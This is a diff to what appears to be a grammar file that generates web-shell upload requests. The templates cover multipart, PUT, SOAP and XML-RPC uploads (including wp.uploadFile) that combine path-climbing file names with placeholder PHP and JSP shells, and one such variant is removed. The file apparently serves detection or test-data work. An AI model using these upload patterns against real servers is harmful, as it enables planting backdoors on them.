@@ -196,7 +196,6 @@ raw_upload := POST /«word»/upload.php?«fname_key»=«base».php«nl»Content-
   ¦ POST /api/v«small»/«word»/upload«nl»Content-Type: application/octet-stream«nl»File-Name: «climb»«base».jsp«nl»«nl»«jsp_shell»
   ¦ PUT /api/v«small»/files/«climb»«base».php«nl»Content-Type: application/octet-stream«nl»«nl»«php_shell»
   ¦ POST /«word»/«word».do?method=upload&«fname_key»=«climb»«base».jsp«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«jsp_shell»
-  ¦ POST /file/«word»?_FILES[«field»][tmp_name]=«word»&name=«base».php«nl»«nl»«php_shell»
 operation := UploadFile ¦ SaveFile ¦ WriteFile ¦ uploadImage ¦ createDocument ¦ «coined|cap»Upload
 soap_upload := <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$o:operation»><«$n:fname_key»>«climb»«base».«=aspx~jsp~asmx~php»</«$n»><«$d:data_key»>«content|b64»</«$d»></«$o»></soap:Body></soap:Envelope>
   ¦ <?xml version="1.0"?><methodCall><methodName>«=wp.uploadFile~metaWeblog.newMediaObject~file.upload~save»</methodName><params><param><value><struct><member><name>name</name><value>«base».php</value></member><member><name>bits</name><value><base64>«php_shell|b64»</base64></value></member></struct></value></param></params></methodCall>
